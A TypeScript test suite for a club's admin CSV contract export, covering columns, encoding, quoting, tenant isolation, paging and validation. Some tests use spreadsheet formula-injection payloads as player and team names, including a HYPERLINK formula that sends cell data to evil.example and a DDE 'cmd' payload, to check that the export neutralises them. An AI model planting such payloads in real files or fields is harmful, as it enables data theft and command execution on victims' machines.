import assert from 'node:assert/strict';
import { Writable } from 'node:stream';
import test from 'ava';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { type DatabasePool, sql } from 'slonik';
import { CONTRACT_CSV_COLUMNS, contractsCsv } from '../src/contracts/csv.ts';
import { offerContract } from '../src/contracts/store.ts';
import { signContract } from '../src/family/store.ts';
import { useHarness } from './helpers/context.ts';
import { type Club, createClub, createPlayer, createTeam, putContractInState, readPlayer } from './helpers/fixtures.ts';
import { request } from './helpers/http.ts';
import { startTestServer } from './helpers/server.ts';

// docs/PRODUCT.md, "Admin": GET /admin/contracts.csv, the rows of GET /admin/contracts as a file a
// spreadsheet opens safely.

const harness = useHarness();

async function exportCsv(club: Club, query: string) {
  const { server } = harness();
  return request(server.baseUrl, 'GET', `/admin/contracts.csv${query}`, { token: await server.adminToken(club.slug) });
}

/** The file's bytes as sent: fetch's text(), like every UTF-8 decoder, drops a leading BOM. */
async function exportBytes(club: Club, query: string): Promise<Buffer> {
  const { server } = harness();
  const response = await fetch(`${server.baseUrl}/admin/contracts.csv${query}`, {
    headers: { authorization: `Bearer ${await server.adminToken(club.slug)}` },
  });
  return Buffer.from(await response.arrayBuffer());
}

/** Every JSON page of GET /admin/contracts, joined. */
async function listAll(club: Club, status: string) {
  const { server } = harness();
  const token = await server.adminToken(club.slug);
  const items: Record<string, unknown>[] = [];
  let cursor: string | null = null;
  do {
    const reply = await request(
      server.baseUrl,
      'GET',
      `/admin/contracts?status=${status}&limit=500${cursor === null ? '' : `&cursor=${cursor}`}`,
      {
        token,
      },
    );
    items.push(...reply.body.items);
    cursor = reply.body.next_cursor;
  } while (cursor !== null);
  return items;
}

const records = (text: string): string[][] => parse(text);

/**
 * The file as a spreadsheet reads it: a line break of any kind (CRLF, LF, CR) outside quotes ends
 * a row, so a name's unquoted line break starts a row of its own.
 */
const spreadsheetRows = (text: string): string[][] => parse(text, { record_delimiter: ['\r\n', '\n', '\r'] });

const FORMULA_START = /^[=+\-@\t\r]/;
const LINE_BREAK = /\r\n|\r|\n/;
/** The lines of a cell, as a reader that splits it on line breaks sees them. */
const linesOf = (cell: string): string[] => cell.split(LINE_BREAK);
/** A cell without the export's guards: the ' before a cell, or a line in it, that would be a formula. */
const unguarded = (cell: string): string =>
  cell
    .replace(/^'(?=[=+\-@\t\r])/, '')
    .split(/(\r\n|\r|\n)/)
    .map((part, index) => (index > 0 && index % 2 === 0 ? part.replace(/^'(?=[=+\-@\t])/, '') : part))
    .join('');

/** A JSON item as its CSV row: team ids joined with spaces, null as an empty cell. */
const asCsvRow = (item: Record<string, unknown>): string[] =>
  CONTRACT_CSV_COLUMNS.map((column) => {
    const value = item[column];
    if (Array.isArray(value)) return value.join(' ');
    return value === null || value === undefined ? '' : String(value);
  });

async function createPlayers(pool: DatabasePool, club: Club, count: number) {
  await pool.query(sql.unsafe`
    INSERT INTO players (tenant_id, name, email)
    SELECT ${club.id}, 'Player ' || n, 'family' || n || '@example.test' FROM generate_series(1, ${count}) AS n
  `);
}

test('the header and rows are those of the JSON list for the same status, as a UTF-8 CSV attachment', async (t) => {
  const { pool } = harness().db;
  const club = await createClub(pool);
  const [gold, silver] = [await createTeam(pool, club), await createTeam(pool, club)];
  await putContractInState(pool, club, await createPlayer(pool, club, { name: 'Dana Park', teamIds: [gold, silver] }), 'offered');
  await putContractInState(pool, club, await createPlayer(pool, club, { name: 'Sam Lee' }), 'offered');
  await putContractInState(pool, club, await createPlayer(pool, club, { name: 'Signed One', teamIds: [gold] }), 'signed');
  await createPlayer(pool, club, { name: 'Nobody Yet' });

  for (const status of ['offered', 'signed', 'none', 'declined']) {
    const reply = await exportCsv(club, `?status=${status}`);
    t.is(reply.status, 200, status);
    t.is(reply.headers.get('content-type'), 'text/csv; charset=utf-8');
    t.is(reply.headers.get('content-disposition'), `attachment; filename="contracts-${status}.csv"`);
    const [header, ...rows] = records(reply.body);
    t.deepEqual(header, [...CONTRACT_CSV_COLUMNS]);
    const json = await listAll(club, status);
    t.deepEqual(rows, json.map(asCsvRow), status);
    if (json[0] !== undefined) t.deepEqual(header, Object.keys(json[0]), 'the columns are the JSON fields, in order');
  }
  const [, offered] = records((await exportCsv(club, '?status=offered')).body);
  t.is(offered?.[5], `${gold} ${silver}`);
  t.regex(offered?.[6] ?? '', /^https:\/\//);
});

test('several states in one export: the rows of the JSON list for the same states, in id order, the file named after them', async (t) => {
  const { pool } = harness().db;
  const club = await createClub(pool);
  const ids: Record<string, number> = {};
  for (const status of ['declined', 'signed', 'offered', 'none', 'expired'] as const) {
    ids[status] = await createPlayer(pool, club, { name: status });
    if (status !== 'none') await putContractInState(pool, club, ids[status], status);
  }

  const reply = await exportCsv(club, '?status=offered,declined,withdrawn,expired');

  t.is(reply.status, 200);
  t.is(reply.headers.get('content-disposition'), 'attachment; filename="contracts-offered+declined+withdrawn+expired.csv"');
  const [header, ...rows] = records(reply.body);
  t.deepEqual(header, [...CONTRACT_CSV_COLUMNS]);
  t.deepEqual(
    rows.map((row) => Number(row[0])),
    [ids.declined, ids.offered, ids.expired],
  );
  t.deepEqual(rows, (await listAll(club, 'offered,declined,withdrawn,expired')).map(asCsvRow));
});

test('after the pinned eight columns come team_names, external_id, signed_by and signed_at, for billing', async (t) => {
  const { pool } = harness().db;
  const club = await createClub(pool);
  const [zebras, antelopes] = [await createTeam(pool, club, 'Zebras'), await createTeam(pool, club, 'Antelopes')];
  const signed = await createPlayer(pool, club, { name: 'Signed', teamIds: [zebras, antelopes] });
  await putContractInState(pool, club, signed, 'signed');
  // The roster import will set it; here the column is written directly, as that import would.
  await pool.query(sql.unsafe`UPDATE players SET external_id = 'REG-0042' WHERE tenant_id = ${club.id} AND id = ${signed}`);
  const offered = await createPlayer(pool, club, { name: 'Offered', teamIds: [antelopes] });
  await putContractInState(pool, club, offered, 'offered');
  const signedAt = (await readPlayer(pool, club, signed)).contract_signed_at;

  const [header, ...rows] = records((await exportCsv(club, '?status=signed,offered')).body);

  t.deepEqual(header, [
    'player_id',
    'name',
    'email',
    'status',
    'monthly_fee',
    'team_ids',
    'contract_url',
    'contract_offered_at',
    'team_names',
    'external_id',
    'signed_by',
    'signed_at',
  ]);
  const cells = (row: string[] | undefined) => row?.slice(5, 6).concat(row.slice(8));
  t.deepEqual(cells(rows[0]), [
    `${zebras} ${antelopes}`,
    'Zebras Antelopes',
    'REG-0042',
    'Dana Park',
    new Date(signedAt ?? 0).toISOString(),
  ]);
  t.regex(rows[0]?.[11] ?? '', /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/, 'ISO 8601 in UTC');
  t.deepEqual(cells(rows[1]), [`${antelopes}`, 'Antelopes', '', '', ''], 'empty until signed, and without an external id');
});

test('the file begins with a UTF-8 byte order mark, and accents in every column survive a CSV parser', async (t) => {
  const { pool } = harness().db;
  const club = await createClub(pool);
  const team = await createTeam(pool, club, 'Équipe Réserve');
  const playerId = await createPlayer(pool, club, { name: 'Zoë Ñúñez-Müller', email: 'zoe@example.test', teamIds: [team] });
  await pool.query(sql.unsafe`UPDATE players SET external_id = 'ÉLÈVE-7' WHERE tenant_id = ${club.id} AND id = ${playerId}`);

  const bytes = await exportBytes(club, '?status=none');

  t.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  const [header, row] = parse(bytes, { bom: true }) as string[][];
  t.is(header?.[0], 'player_id', 'a parser told of the BOM drops it');
  t.is(row?.[1], 'Zoë Ñúñez-Müller');
  t.is(row?.[8], 'Équipe Réserve');
  t.is(row?.[9], 'ÉLÈVE-7');
});

test("the added columns keep the formula guard and the quoting: team names, external id and the signer's typed name", async (t) => {
  const { pool } = harness().db;
  const club = await createClub(pool);
  const team = await createTeam(pool, club, '=HYPERLINK("https://evil.example","x")');
  const playerId = await createPlayer(pool, club, { teamIds: [team] });
  await pool.query(sql.unsafe`UPDATE players SET external_id = '+42;7' WHERE tenant_id = ${club.id} AND id = ${playerId}`);
  const { contract_token: token } = await offerContract(pool, {
    tenantId: club.id,
    playerId,
    monthlyFee: 150,
    targetTeamId: null,
    force: false,
    actor: 'registrar@example.test',
  });
  await signContract(pool, {
    token,
    signedBy: '@SUM(1,2)\n=1+1',
    signatureUrl: 'https://sign.example.test/s/1',
    ip: '203.0.113.7',
    contractVersion: 'v1',
  });

  const [, ...rows] = spreadsheetRows((await exportCsv(club, '?status=signed')).body);

  t.is(rows.length, 1);
  t.deepEqual(rows[0]?.slice(8, 11), [`'=HYPERLINK("https://evil.example","x")`, "'+42;7", "'@SUM(1,2)\n'=1+1"]);
});

test('quotes, commas, newlines and unicode in names survive a CSV parser', async (t) => {
  const { pool } = harness().db;
  const club = await createClub(pool);
  const names = [
    'Park, Dana',
    'Dana "DP" Park',
    'Line one\nline two',
    'Carriage\r\nreturn',
    'Zoë O’Brien',
    '日本語 👨‍👩‍👧‍👦',
    ' leading and trailing ',
    '"',
    "O'Brien",
  ];
  for (const name of names) await createPlayer(pool, club, { name, email: 'a,"b"@example.test' });

  const reply = await exportCsv(club, '?status=none');

  t.is(reply.status, 200);
  const [, ...rows] = records(reply.body);
  t.deepEqual(
    rows.map((row) => row[1]),
    names,
  );
  t.true(rows.every((row) => row[2] === 'a,"b"@example.test'));
});

test("a cell a spreadsheet would run as a formula is prefixed with '", async (t) => {
  const { pool } = harness().db;
  const club = await createClub(pool);
  const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1', '-2', '@x', '\t=1+1', '\r=1+1', "=cmd|' /C calc'!A0"];
  for (const name of formulas) await createPlayer(pool, club, { name });
  await createPlayer(pool, club, { name: 'Safe = name', email: '=evil@example.test' });

  const [, ...rows] = records((await exportCsv(club, '?status=none')).body);

  t.deepEqual(
    rows.map((row) => row[1]),
    [...formulas.map((name) => (name === '\r=1+1' ? "'\r'=1+1" : `'${name}`)), 'Safe = name'],
  );
  t.is(rows.at(-1)?.[2], "'=evil@example.test");
});

test("the probe's name with a line break and a formula, set through the API, exports as one row whose every line is text", async (t) => {
  const { db, server } = harness();
  const club = await createClub(db.pool);
  const playerId = await createPlayer(db.pool, club);
  const name = "Jamie Park\n=cmd|' /C calc'!A0";
  const renamed = await request(server.baseUrl, 'PATCH', `/admin/players/${playerId}`, {
    token: await server.adminToken(club.slug),
    body: { name },
  });
  t.is(renamed.status, 200);
  t.is(renamed.body.name, name, "stored as given: guarding is the export's job");

  const [, ...rows] = spreadsheetRows((await exportCsv(club, '?status=none')).body);

  t.is(rows.length, 1);
  t.is(rows[0]?.[1], "Jamie Park\n'=cmd|' /C calc'!A0");
});

test('no cell, and no line within a cell, starts a formula; the cell less its guards is the name; one row per player', async (t) => {
  const { pool } = harness().db;
  const character = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', ' ', 'a', 'ö');
  // No ' among them: a name's own leading ' cannot be told from a guard.
  const names = fc.array(fc.string({ unit: character, minLength: 1, maxLength: 12 }), { minLength: 1, maxLength: 5 });

  await fc.assert(
    fc.asyncProperty(names, async (names) => {
      const club = await createClub(pool);
      for (const name of names) await createPlayer(pool, club, { name });

      const [, ...rows] = spreadsheetRows((await exportCsv(club, '?status=none')).body);

      // Plain assertions, which throw, so that fast-check sees a failure and shrinks it.
      assert.equal(rows.length, names.length, 'one row per player');
      for (const cell of rows.map((row) => row[1] ?? '')) {
        assert.ok(!linesOf(cell).some((line) => FORMULA_START.test(line)), `a line of ${JSON.stringify(cell)} starts a formula`);
        assert.ok(!FORMULA_START.test(cell), `${JSON.stringify(cell)} starts a formula`);
      }
      assert.deepEqual(
        rows.map((row) => unguarded(row[1] ?? '')),
        names,
      );
    }),
    { numRuns: 30, seed: 20_260_501 },
  );
  t.pass();
});

test("another club's players never appear", async (t) => {
  const { pool } = harness().db;
  const [mine, theirs] = [await createClub(pool), await createClub(pool)];
  await putContractInState(pool, theirs, await createPlayer(pool, theirs, { name: 'Theirs' }), 'offered');
  await createPlayer(pool, theirs, { name: 'Theirs too' });

  for (const status of ['offered', 'none']) {
    const reply = await exportCsv(mine, `?status=${status}`);
    t.is(reply.status, 200);
    t.deepEqual(records(reply.body), [[...CONTRACT_CSV_COLUMNS]]);
  }
});

test('2,500 players export in full, in id order, across pages', async (t) => {
  const { pool } = harness().db;
  const club = await createClub(pool);
  await createPlayers(pool, club, 2500);

  const reply = await exportCsv(club, '?status=none');

  t.is(reply.status, 200);
  const [, ...rows] = records(reply.body);
  t.is(rows.length, 2500);
  const ids = rows.map((row) => Number(row[0]));
  t.is(new Set(ids).size, 2500);
  t.deepEqual(
    ids,
    [...ids].sort((a, b) => a - b),
  );
  t.deepEqual(
    rows.map((row) => row[1]),
    Array.from({ length: 2500 }, (_, index) => `Player ${index + 1}`),
  );
});

const badQueries = [
  '',
  '?status=pending',
  '?status=Offered',
  '?status=offered,pending',
  '?status=offered,',
  '?status=offered,offered',
  '?status=offered&status=signed',
  '?status=offered&limit=10',
  '?status=offered&tenant=x',
];
for (const query of badQueries) {
  test(`GET /admin/contracts.csv${query} → 422 validation_failed, as JSON`, async (t) => {
    const reply = await exportCsv(await createClub(harness().db.pool), query);
    t.is(reply.status, 422);
    t.regex(reply.headers.get('content-type') ?? '', /^application\/json/);
    t.is(reply.body.error.code, 'validation_failed');
  });
}

test('a state list with an unknown, empty or repeated item is refused naming status and the item', async (t) => {
  const club = await createClub(harness().db.pool);
  const messages = [];
  for (const states of ['signed,pending', 'signed,,offered', 'signed,signed']) {
    const reply = await exportCsv(club, `?status=${states}`);
    t.is(reply.status, 422);
    messages.push(reply.body.error.message);
  }
  t.deepEqual(messages, [
    'The query string is not valid: "status": "pending" is not a contract state (none, offered, declined, signed, withdrawn, expired).',
    'The query string is not valid: "status": item 2 is empty.',
    'The query string is not valid: "status": "signed" is given twice.',
  ]);
});

test('without a token → 401, with a token for an unknown club → 403', async (t) => {
  const { server } = harness();
  const anonymous = await request(server.baseUrl, 'GET', '/admin/contracts.csv?status=none');
  t.is(anonymous.status, 401);
  t.is(anonymous.body.error.code, 'unauthenticated');
  const stranger = await request(server.baseUrl, 'GET', '/admin/contracts.csv?status=none', {
    token: await server.adminToken('no-such-club'),
  });
  t.is(stranger.status, 403);
  t.is(stranger.body.error.code, 'forbidden');
});

test('a page that fails after the answer started cuts the answer off and is logged; the service keeps answering', async (t) => {
  const { db } = harness();
  const club = await createClub(db.pool);
  await createPlayers(db.pool, club, 1500);
  // The same pool, except that the export's second page fails.
  let pagesRead = 0;
  const failing = new Proxy(db.pool, {
    get(target, property, receiver) {
      const value = Reflect.get(target, property, receiver);
      if (property !== 'any') return typeof value === 'function' ? value.bind(target) : value;
      return (query: { sql: string }) => {
        if (query.sql.includes('FROM players') && query.sql.includes('contract_status =')) {
          pagesRead += 1;
          if (pagesRead === 2) return Promise.reject(new Error('the database went away'));
        }
        return target.any(query as never);
      };
    },
  });
  const lines: string[] = [];
  const logs = new Writable({
    write(chunk, _encoding, done) {
      lines.push(String(chunk));
      done();
    },
  });
  const server = await startTestServer(failing, { logs });
  try {
    const response = await fetch(`${server.baseUrl}/admin/contracts.csv?status=none`, {
      headers: { authorization: `Bearer ${await server.adminToken(club.slug)}` },
    });
    t.is(response.status, 200);
    await t.throwsAsync(response.text(), undefined, 'the client sees the answer cut off, not a whole file');
    t.is(pagesRead, 2);
    t.true(lines.some((line) => line.includes('CSV export failed') && line.includes('the database went away')));
    const after = await request(server.baseUrl, 'GET', '/admin/contracts.csv?status=offered', {
      token: await server.adminToken(club.slug),
    });
    t.is(after.status, 200);
  } finally {
    await server.close();
  }
});

test('contractsCsv: a failing page destroys the stream and is reported once', async (t) => {
  const failures: Error[] = [];
  async function* pages() {
    yield [
      {
        player_id: 1,
        name: '-x',
        email: 'a@example.test',
        status: 'none' as const,
        monthly_fee: null,
        team_ids: [2, 3],
        contract_url: null,
        contract_offered_at: null,
        team_names: ['U12', 'U14'],
        external_id: null,
        signed_by: null,
        signed_at: null,
      },
    ];
    throw new Error('page two failed');
  }
  const stream = contractsCsv(pages(), (error) => failures.push(error));
  await t.throwsAsync(async () => {
    for await (const _ of stream);
  });
  await new Promise((resolve) => setImmediate(resolve));
  t.deepEqual(
    failures.map((error) => error.message),
    ['page two failed'],
  );
});
